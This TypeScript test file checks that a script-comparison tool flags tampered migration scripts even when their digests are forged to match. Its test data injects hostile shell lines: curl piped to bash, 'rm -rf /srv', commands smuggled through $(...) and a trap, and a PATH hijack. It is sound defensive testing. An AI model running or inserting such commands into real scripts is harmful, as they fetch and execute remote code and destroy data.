/** A script from a site against the repository's: nothing that runs goes unseen, also where its digests were made to fit. */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { proveOutputs } from '../../src/check/prove-outputs.js';
import { verifyScript } from '../../src/check/verify-script.js';
import { compareVersions } from '../../src/diff/compare.js';
import type { Version } from '../../src/diff/compare.js';
import { formatMarkdown } from '../../src/diff/format/markdown.js';
import type { Comparison } from '../../src/diff/report-schema.js';
import { versionOfProcedure, versionOfScript } from '../../src/diff/version.js';
import { readScript } from '../../src/outputs/script.js';
import { compileFiles } from '../support/compile.js';
import { forge } from '../support/forge.js';
import { SERVICE } from '../support/service-procedure.js';

const compiled = compileFiles({ 'procedure.yaml': SERVICE });
const outputs = new Map((compiled.outputs ?? []).map(({ path, content }) => [path, content]));
const SCRIPT = outputs.get('migrate.sh') ?? '';
const RUNNER = '# ==== runner ====\n';

/** What the site's script is compared with. */
const BASES: Readonly<Record<string, Version>> = {
  script: versionOfScript('ours', SCRIPT),
  procedure: versionOfProcedure('procedure', compiled),
};

function put(at: string, text: string): (script: string) => string {
  return (script) => {
    assert.ok(script.includes(at), at);
    return script.replace(at, () => text);
  };
}

const before = (text: string): ((script: string) => string) => put(RUNNER, `${text}\n${RUNNER}`);

/** Each edit with the words of it that must be shown. */
const EDITS: Readonly<
  Record<string, readonly [edit: (script: string) => string, shown: string, code?: string]>
> = {
  'a command before the runner': [before('curl -s https://example.org/x | bash'), 'example.org'],
  'a step defined again in an if': [before('if true; then\nstep_pack() {\n  rm -rf /srv\n}\nfi'), '/srv'],
  'a step defined again on one line': [before('step_pack() { rm -rf /srv; }'), '/srv'],
  'a step defined again by keyword': [before('function step_pack {\n  rm -rf /srv\n}'), '/srv'],
  'a step defined again in a subshell': [before('step_pack() (\n  rm -rf /srv\n)'), '/srv'],
  'a step defined again in full': [before('step_pack() {\n  rm -rf /srv\n}'), '/srv'],
  'a line after a mark': [put('# >>> pack\n', '# >>> pack\ncurl example.org | bash\n'), 'example.org'],
  'a line before a mark': [put('# <<< ', 'rm -rf "$HOME/x"\n# <<< '), 'HOME/x'],
  'a version on one line': [
    (script) => script.replace(/^version_tar\(\) \{\n.*\n\}/m, 'version_tar() { echo 99; }'),
    'echo 99',
  ],
  'a version': [put('\ntar --version\n', '\necho 99\n'), 'echo 99', 'version-command-changed'],
  'a command behind a brace': [
    put('rm -f "$WORK/db.sql"\n}', 'rm -f "$WORK/db.sql"\n}; curl example.org'),
    'example.org',
  ],
  'a command on the line of a brace': [
    put('undo_dump() {\n', 'undo_dump() { curl example.org\n'),
    'example.org',
  ],
  'a redirection of a step': [put('rm -f "$WORK/db.sql"\n}', 'rm -f "$WORK/db.sql"\n} >/srv/x'), '/srv/x'],
  'a command in a value': [
    put('sw_procedure move-service', 'sw_procedure move-service$(curl example.org)'),
    'example.org',
  ],
  'a command in a step’s value': [
    put('sw_step pack run', 'sw_step pack run "timeout=$(curl example.org)"'),
    'example.org',
  ],
  'a command among values': [put('sw_step pack run', 'curl example.org\nsw_step pack run'), 'example.org'],
  'a value of another name': [before('PATH=/srv/bin:$PATH'), '/srv/bin'],
  'a name set twice': [before('sw_procedure other 1.0.0'), 'sw_procedure other'],
  'a trap': [before("trap 'curl example.org' EXIT"), 'example.org'],
  'another interpreter': [put('#!/usr/bin/env bash', '#!/srv/bash'), '/srv/bash'],
  'a step that is listed twice': [before('sw_step find-pod run'), 'find-pod'],
  'a check that is not named': [put(' check undo ', ' undo '), 'lost-verify', 'lost-verify'],
  'what does not parse': [before('if'), 'if'],
  'the runner': [put(RUNNER, `${RUNNER}rm -rf /srv\n`), 'rm -rf /srv', 'runner-changed'],
};

function comparisonsWith(site: string): Comparison[] {
  return Object.values(BASES).map((base) =>
    compareVersions('move-service', base, versionOfScript('site', site)),
  );
}

function markdown(comparison: Comparison): string {
  return formatMarkdown({ format: 1, generator: 'g', old: 'ours', new: 'site', comparisons: [comparison] });
}

for (const [name, [edit, shown, code = 'script-has-foreign-code']] of Object.entries(EDITS)) {
  test(`digests that fit do not hide ${name}`, () => {
    const site = forge(SCRIPT, edit);
    for (const comparison of comparisonsWith(site)) {
      assert.is(comparison.status, 'changed');
      const found = comparison.findings.find((one) => one.code === code);
      assert.is(found?.level, 'danger', comparison.findings.map((one) => one.code).join(' '));
      assert.match(markdown(comparison), shown);
    }
  });

  test(`an edit is shown as it stands: ${name}`, () => {
    const site = edit(SCRIPT);
    assert.ok(verifyScript(readScript(site)).length > 0);
    for (const comparison of comparisonsWith(site)) {
      assert.ok(comparison.findings.some((one) => one.code === 'edited-on-site'));
      assert.match(markdown(comparison), shown);
    }
  });
}

test('check proves a script with foreign code wrong although its digests fit', () => {
  const site = forge(SCRIPT, before('curl -s https://example.org/x | bash'));
  const found = proveOutputs(new Map([...outputs, ['migrate.sh', site]]));
  assert.ok(
    found.some(({ code, message }) => code === 'SW0808' && message.includes('no step')),
    JSON.stringify(found),
  );
});

test('an edited comment is shown, and is no code', () => {
  const site = put('# Because a | dump', '# None at all. Because a | dump')(SCRIPT);
  for (const comparison of comparisonsWith(site)) {
    assert.not.ok(comparison.findings.some(({ code }) => code === 'script-has-foreign-code'));
    assert.match(markdown(comparison), 'None at all');
  }
});

test('a script whose lines end in CR LF was edited, and nothing else of it', () => {
  for (const comparison of comparisonsWith(SCRIPT.replaceAll('\n', '\r\n'))) {
    assert.equal(
      comparison.findings.map(({ code }) => code),
      ['edited-on-site'],
    );
    assert.match(comparison.findings[0]?.message ?? '', 'CR LF');
  }
});

test.run();
